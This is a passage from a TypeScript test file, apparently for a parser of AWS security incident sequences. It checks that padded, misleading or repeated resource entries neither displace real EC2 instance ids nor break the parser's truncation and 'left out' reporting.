    return { event, resources: fieldAt(event, ['detail', ...SEQUENCE_RESOURCES.slice(1)]) as Record<string, unknown>[] };
  };
  const instancesOf = (incident: Incident) => affectedResources(incident).flatMap((resource) => (resource.kind === 'ec2-instance' ? [resource.instanceId] : []));
  const place = { accountId: '111122223333', region: 'eu-west-1' };

  it('tried (review-8k): names shaped like instance ids and instance ids that are not, listed first, neither push a real instance out nor enter LEFT OUT', () => {
    const { event, resources } = ec2Sequence();
    const whole = instancesOf(parse(structuredClone(event)));
    const hex = (index: number) => index.toString(16).padStart(17, '0');
    // 120 groups whose uid and name read as instance ids (text: no fan-out acts on a group) and 120
    // "instances" whose ids are ids with a long tail (unverified, text too), ahead of the real ones.
    const groups = Array.from({ length: 120 }, (_, index) => ({ uid: `i-${hex(index)}`, name: `i-${hex(index + 1000)}`, resourceType: 'AUTOSCALING_AUTO_SCALING_GROUP', ...place }));
    const fakes = Array.from({ length: 120 }, (_, index) => ({ uid: `i-${hex(index + 5000)}${'\u{1F600}'.repeat(200)}`, resourceType: 'EC2_INSTANCE', ...place }));
    resources.unshift(...groups.slice(0, 60), ...fakes, ...groups.slice(60));
    expect(resources.length).toBeLessThanOrEqual(250);
    const incident = parse(event);
    // Held: every instance the whole sequence names is kept (text takes at most 150 entries and 24 KiB).
    expect(incident.sequence?.omitted.resources).toBeGreaterThan(0);
    expect(whole.length).toBeGreaterThan(2);
    expect(instancesOf(incident)).toEqual(expect.arrayContaining(whole));
    expect(incident.sequence?.leftOut ?? []).toEqual([]);
  });

  it('tried (review-8k): an instance repeated past the resources read takes one place in LEFT OUT, and the real one after it is named', () => {
    const { event, resources } = ec2Sequence();
    const padding = Array.from({ length: 250 }, (_, index) => ({ uid: `arn:aws:s3:::exfil-drop/loot/${index}`, resourceType: 'S3_OBJECT', ...place }));
    // Beyond the 250 read: the attacker's own instance 140 times (as a resource and in groups), then a real one.
    const repeated = Array.from({ length: 140 }, (_, index) =>
      index % 2 === 0 ? { uid: 'i-0fedcba9876543210', resourceType: 'EC2_INSTANCE', ...place } : { uid: `arn:aws:autoscaling:eu-west-1:111122223333:autoScalingGroup:x:autoScalingGroupName/g${index}`, resourceType: 'AUTOSCALING_AUTO_SCALING_GROUP', ...place, data: { autoscalingAutoScalingGroup: { ec2InstanceUids: Array.from({ length: 25 }, () => 'i-0fedcba9876543210') } } },
    );
    resources.splice(0, resources.length, ...padding, ...repeated, { uid: 'i-0c1d2e3f4a5b60719', resourceType: 'EC2_INSTANCE', ...place });
    const incident = parse(event);
    expect(incident.sequence?.leftOut).toEqual([
      { kind: 'ec2-instance', id: 'i-0fedcba9876543210', account: '111122223333', region: 'eu-west-1' },
      { kind: 'ec2-instance', id: 'i-0c1d2e3f4a5b60719', account: '111122223333', region: 'eu-west-1' },
    ]);
  });
});
